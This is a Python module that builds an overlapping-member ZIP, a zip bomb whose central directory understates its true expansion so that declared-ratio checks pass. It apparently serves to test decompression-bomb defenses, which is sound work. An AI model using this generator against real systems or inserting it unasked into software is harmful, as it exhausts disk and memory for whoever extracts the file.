"""A ZIP whose central directory understates what it expands to, built byte by byte.

Every member's local header is stacked in the extra field of the one before it, so all
members' data start at the same offset: one deflate stream (the kernel) serves every
member. Each member's declared sizes are plausible on their own (compressed size: the
kernel's; uncompressed: ``declared_ratio`` times that; a true CRC), but together the
members expand to ``members * declared_ratio`` times bytes that are in the archive only
once. Checks on declared sizes see ratio ``declared_ratio``; the real ratio is
``members`` times higher. (David Fifield's "better zip bomb" overlaps members the same
way; newer zipfile releases refuse overlapping entries, older ones extract them.)
"""

from __future__ import annotations

import struct
import zlib

MiB = 1 << 20

_LOCAL = struct.Struct("<IHHHHHIIIHH")
_CENTRAL = struct.Struct("<IHHHHHHIIIHHHHHII")
_END = struct.Struct("<IHHHHIIH")


def _zeros_crc(size: int) -> int:
    crc, chunk = 0, bytes(MiB)
    while size:
        piece = chunk[: min(size, MiB)]
        crc = zlib.crc32(piece, crc)
        size -= len(piece)
    return crc


def _deflated_zeros(size: int) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk, parts = bytes(MiB), []
    while size:
        piece = chunk[: min(size, MiB)]
        parts.append(compressor.compress(piece))
        size -= len(piece)
    parts.append(compressor.flush())
    return b"".join(parts)


def overlapping_zip(kernel_bytes: int, members: int, declared_ratio: int) -> bytes:
    """The archive: ``members`` members ``m00.bin``... sharing one deflate stream of
    ``kernel_bytes`` zero bytes, each declaring the stream's length as its compressed
    size and ``declared_ratio`` times that (at most ``kernel_bytes``) as its size."""
    stream = _deflated_zeros(kernel_bytes)
    size = min(kernel_bytes, declared_ratio * len(stream))
    crc = _zeros_crc(size)
    names = [f"m{i:02d}.bin".encode() for i in range(members)]
    offsets, at = [], 0
    for name in names:
        offsets.append(at)
        at += _LOCAL.size + len(name)
    data_at = at
    headers = b"".join(
        _LOCAL.pack(
            0x04034B50, 20, 0, 8, 0, 0x21, crc, len(stream), size, len(name),
            data_at - (offset + _LOCAL.size + len(name)),
        ) + name
        for name, offset in zip(names, offsets, strict=True)
    )  # fmt: skip
    central = b"".join(
        _CENTRAL.pack(
            0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(stream), size, len(name),
            0, 0, 0, 0, 0, offset,
        ) + name
        for name, offset in zip(names, offsets, strict=True)
    )  # fmt: skip
    end = _END.pack(0x06054B50, 0, 0, members, members, len(central), data_at + len(stream), 0)
    return headers + stream + central + end
